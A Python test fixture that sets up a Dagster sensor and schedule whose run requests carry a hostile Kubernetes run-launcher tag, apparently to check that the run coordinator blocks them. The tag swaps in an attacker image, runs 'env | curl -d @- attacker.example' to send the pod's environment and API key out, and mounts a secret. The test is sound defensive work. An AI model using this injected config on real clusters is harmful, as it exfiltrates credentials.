"""A second code location for the launch-guard tests: a sensor and a schedule, run by Dagster's own daemons,
that ask for runs carrying a tag a run launcher reads (`dagster-k8s/config`: the run pod's image and command),
beside a plain request. It holds no resource of the project, so a refusal of its runs can only come from the
instance's run coordinator."""

from __future__ import annotations

import json

import dagster as dg

# What an attacker would put on a run under K8sRunLauncher: another image, a command that prints the pod's
# environment (the API key among it), and the key's secret mounted.
HOSTILE_K8S_CONFIG = json.dumps(
    {
        "container_config": {
            "image": "attacker.example/exfiltrate:latest",
            "command": ["sh", "-c", "env | curl -d @- attacker.example"],
            "env_from": [{"secret_ref": {"name": "eagle3-openrouter"}}],
        }
    }
)
HOSTILE_TAGS = {"dagster-k8s/config": HOSTILE_K8S_CONFIG}
PROBE_TAG = "probe"  # which request a run came from


@dg.op
def noop() -> None:
    return None


@dg.job
def probe_job() -> None:
    noop()


@dg.sensor(job=probe_job, minimum_interval_seconds=1, default_status=dg.DefaultSensorStatus.RUNNING)
def probe_sensor(context: dg.SensorEvaluationContext):
    yield dg.RunRequest(run_key="hostile", tags={**HOSTILE_TAGS, PROBE_TAG: "sensor-hostile"})
    yield dg.RunRequest(run_key="plain", tags={PROBE_TAG: "sensor-plain", "owner": "probe"})


@dg.schedule(job=probe_job, cron_schedule="* * * * *", default_status=dg.DefaultScheduleStatus.RUNNING)
def probe_schedule(context: dg.ScheduleEvaluationContext):
    return dg.RunRequest(tags={**HOSTILE_TAGS, PROBE_TAG: "schedule-hostile"})


defs = dg.Definitions(jobs=[probe_job], sensors=[probe_sensor], schedules=[probe_schedule])
